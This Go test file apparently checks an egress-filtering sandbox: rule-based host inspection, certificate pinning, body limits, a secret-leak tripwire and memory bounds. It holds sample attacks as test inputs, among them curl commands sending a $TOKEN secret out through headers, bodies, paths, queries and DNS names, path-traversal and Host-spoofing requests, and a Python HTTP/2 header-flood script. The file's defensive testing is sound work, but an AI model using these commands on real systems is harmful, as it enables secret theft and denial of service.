package egress

import (
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"palyra/call/egress"
	"palyra/conformance/world"
	"palyra/isolate/evidence"
)

// TestInspected: of an inspected host a call reaches what its rules say, and the receipt has each
// request; another host isn't looked into.
func TestInspected(t *testing.T) {
	b := begun(t)
	if err := b.w.MakeRepository(); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"git.example", "packages.example", "other.example", "wrong.example"} {
		b.w.Set(n, world.Addrs(world.Web, world.Web6))
	}
	// The status of each answer, and the issuer of the certificate that curl was shown.
	ask := []string{"curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{certs}"}
	const flags = "GET,HEAD packages.example:443/simple/"
	for _, c := range []struct {
		name   string
		args   []string
		status string // "" for no answer
		passes bool
	}{
		{"allowed", []string{"https://packages.example/simple/fromworld/"}, "200", true},
		{"HTTP/1.1", []string{"--http1.1", "https://packages.example/simple/fromworld/"}, "200", true},
		{"another method", []string{"-d", "x", "https://packages.example/simple/fromworld/"}, "403", false},
		{"another path", []string{"https://packages.example/repo.git/HEAD"}, "403", false},
		{"a path that leads out", []string{"--path-as-is", "https://packages.example/simple/../repo.git/HEAD"}, "", false},
		{"the same in disguise", []string{"--path-as-is", "https://packages.example/simple/%2e%2e/repo.git/HEAD"}, "", false},
		{"another host's name", []string{"-H", "Host: git.example", "https://packages.example/simple/"}, "", false},
		{"no TLS", []string{"http://packages.example:443/simple/"}, "", false},
		{"a host that can't show who it is", []string{"https://wrong.example/"}, "", false},
		{"a host that isn't inspected", []string{"https://git.example/repo.git/HEAD"}, "200", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := b.in(t)
			before := len(b.w.Requests())
			r := b.exec([]string{"git.example"}, []string{"--inspect", flags, "--inspect", "wrong.example:443"}, append(slices.Clone(ask), c.args...)...)
			arrived := b.w.Requests()[before:]
			status, certs, _ := strings.Cut(r.stdout, " ")
			if c.passes != (len(arrived) == 1) || c.status != "" && status != c.status || status == "200" && !c.passes {
				t.Errorf("arrived %+v; %s", arrived, r)
			}
			inspected := strings.Contains(strings.Join(c.args, " "), "packages.example")
			if c.passes && inspected == strings.Contains(certs, "the world's authority") {
				t.Errorf("the certificate: %s", certs)
			}
			if n := len(r.egress.Requests); (c.passes && inspected || c.status == "403") && (n != 1 || r.egress.Requests[0].Refused == c.passes || r.egress.Requests[0].Host != "packages.example") {
				t.Errorf("requests of the receipt: %s", r)
			}
		})
	}
}

// TestPinned: a host with another key than the pinned one gets no request, and the receipt has a pin that
// it would pass with.
func TestPinned(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	ask := func(pin []byte) (*call, int) {
		before := len(b.w.Requests())
		r := b.exec(nil, []string{"--inspect", "packages.example pin:" + egress.PinOf(pin)}, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "https://packages.example/simple/fromworld/")
		return r, len(b.w.Requests()) - before
	}
	r, arrived := ask(make([]byte, 32))
	if r.stdout != "502" || arrived != 0 || !r.denied("packages.example", 443, evidence.DenyPin) || len(r.egress.Connections) != 1 {
		t.Fatalf("another key: %d requests arrived; %s", arrived, r)
	}
	key, err := hex.DecodeString(strings.TrimPrefix(r.egress.Connections[0].Key.String(), "sha256:"))
	if err != nil {
		t.Fatal(err)
	}
	if r, arrived = ask(key); r.stdout != "200" || arrived != 1 || len(r.egress.Denied) != 0 {
		t.Errorf("the host's key: %d requests arrived; %s", arrived, r)
	}
}

// TestBodies: a longer body than its rule's goes nowhere, and who called is told of the bound.
func TestBodies(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	post := func(bound string) (*call, int) {
		before := len(b.w.Requests())
		r := b.exec(nil, []string{"--inspect", "POST packages.example body:" + bound}, "curl", "-sS", "--fail-with-body", "-o", "/dev/null", "-w", "%{http_code}", "--data-raw", strings.Repeat("x", 5000), "https://packages.example/simple/fromworld/")
		return r, len(b.w.Requests()) - before
	}
	r, arrived := post("4KiB")
	if r.stdout != "413" || arrived != 0 || !r.denied("packages.example", 443, evidence.DenyLimit) || r.egress.Denied[0].Limit != "body:4KiB" || !strings.Contains(r.stderr, "beyond the 4KiB that its rule lets a request's body have") {
		t.Errorf("%d requests arrived; %s", arrived, r)
	}
	if r, arrived = post("5000"); r.stdout == "413" || arrived != 1 || len(r.egress.Denied) != 0 || r.egress.Requests[0].Sent != 5000 {
		t.Errorf("as long as it may be: %d requests arrived; %s", arrived, r)
	}
}

// TestTripwire: a placeholder that is sent anywhere but to its place ends the call, and the receipt
// says where it was going. Neither it nor the token gets there.
func TestTripwire(t *testing.T) {
	b := begun(t)
	b.registered()
	for _, c := range []struct {
		name, send string
		more       []string
		leak       evidence.Leak
	}{
		{"another header", `curl -sS -H "X-Token: $TOKEN" https://packages.example/private/echo`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakHeader}},
		{"the body", `curl -sS -d "token=$TOKEN" https://packages.example/sum`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakBody}},
		{"the path", `curl -sS "https://packages.example/$TOKEN"`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakPath}},
		{"the query", `curl -sS "https://packages.example/?token=$TOKEN"`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakQuery}},
		{"another host", `curl -sS -H "Authorization: Bearer $TOKEN" https://other.example/`, []string{"--inspect", "other.example:443"}, evidence.Leak{Host: "other.example", Port: 443, Where: evidence.LeakHeader}},
		{"a name", `curl -sS "https://$TOKEN.packages.example/"`, nil, evidence.Leak{Where: evidence.LeakDNS}},
		{"the clear", `curl -sS -H "X-Token: $TOKEN" http://other.example/`, []string{"--egress", "other.example:80"}, evidence.Leak{Host: "other.example", Port: 80, Where: evidence.LeakClear}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := b.in(t)
			before := len(b.w.Requests())
			r, ws := b.with(c.more, "printenv TOKEN >token.txt; "+c.send+"; tail -f /dev/null")
			if r.outcome != "failed" || r.status == 0 || !strings.Contains(r.stderr, "placeholder") {
				t.Error(r)
			}
			leaked := slices.ContainsFunc(r.egress.Leaks, func(l evidence.Leak) bool {
				return l.Name == "TOKEN" && l.Where == c.leak.Where && (c.leak.Host == "" || l.Host == c.leak.Host && l.Port == c.leak.Port)
			})
			if !leaked {
				t.Errorf("leaks %+v, want %+v", r.egress.Leaks, c.leak)
			}
			p, err := os.ReadFile(filepath.Join(ws, "token.txt"))
			placeholder := strings.TrimSpace(string(p))
			if err != nil || len(placeholder) < 40 {
				t.Errorf("the placeholder is %q, %v", placeholder, err)
			}
			for _, q := range b.w.Requests()[before:] {
				// The head of a request is on its way before its body comes.
				if text := fmt.Sprintf("%+v", q); c.leak.Where != evidence.LeakBody || strings.Contains(text, placeholder) || strings.Contains(text, token) {
					t.Errorf("arrived %s", text)
				}
			}
			if q := b.w.Queries("packages.example"); slices.ContainsFunc(q, func(q world.Query) bool { return q.Name != "packages.example" }) {
				t.Errorf("asked %v", q)
			}
		})
	}
	// It isn't there without the secret, nor for a host that the use doesn't name.
	if r := b.exec([]string{"packages.example"}, nil, "sh", "-c", "printenv TOKEN"); r.status != 1 || r.stdout != "" {
		t.Error(r)
	}
}

// wide opens connections with 32 requests each, whose bodies never end, and whose heads are as many
// fields as 64 KiB of HTTP/2 can have.
const wide = `
import socket, ssl, struct, sys, time
def frame(kind, flags, stream, b): return struct.pack(">I", len(b))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + b
a = b"abcdefghijklmnopqrstuvwxyz0123456789"
head = b"\x83\x87\x84\x01" + bytes([16]) + b"packages.example" # POST, https, /, authority
for i in range(1700):
    head += b"\0\x03" + bytes([a[i % 26], a[i // 26 % 36], a[i // 26 // 36 % 36]]) + b"\0"
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2"])
conns = []
for n in range(60):
    c = ctx.wrap_socket(socket.create_connection(("packages.example", 443)), server_hostname="packages.example")
    c.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + b"".join(frame(1, 4, 2 * i + 1, head) for i in range(32)))
    conns.append(c)
time.sleep(1)
print(len(conns))
`

// TestWideHeads: palyra-egress is every call's, so what a program has it keep is bounded: the unit
// gives it 512 MiB.
func TestWideHeads(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	r := b.start(nil, []string{"--inspect", "packages.example:443"}, "python3", "-c", wide)
	over := make(chan struct{})
	peak := make(chan int)
	go func() {
		most := 0
		for {
			select {
			case <-over:
				peak <- most
				return
			case <-time.After(20 * time.Millisecond):
				most = max(most, peakOf(r.pid, "palyra-egress"))
			}
		}
	}()
	c := r.wait()
	close(over)
	if most := <-peak; most == 0 || most > 256<<10 || c.status != 0 || c.stdout != "60\n" {
		t.Errorf("palyra-egress had %d KiB of memory; %.2000s", most, fmt.Sprint(c))
	}
}

// peakOf returns the most memory that a child of a process by that name has had, in KiB.
func peakOf(pid int, name string) int {
	var children []byte // of each thread
	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/[0-9]*/children", pid))
	for _, t := range tasks {
		more, _ := os.ReadFile(t)
		children = append(append(children, ' '), more...)
	}
	most := 0
	for _, child := range strings.Fields(string(children)) {
		b, _ := os.ReadFile("/proc/" + child + "/status")
		status := string(b)
		if _, rest, ok := strings.Cut(status, "VmHWM:"); ok && strings.HasPrefix(status, "Name:\t"+name+"\n") {
			n, _ := strconv.Atoi(strings.Fields(rest)[0])
			most = max(most, n)
		}
	}
	return most
}
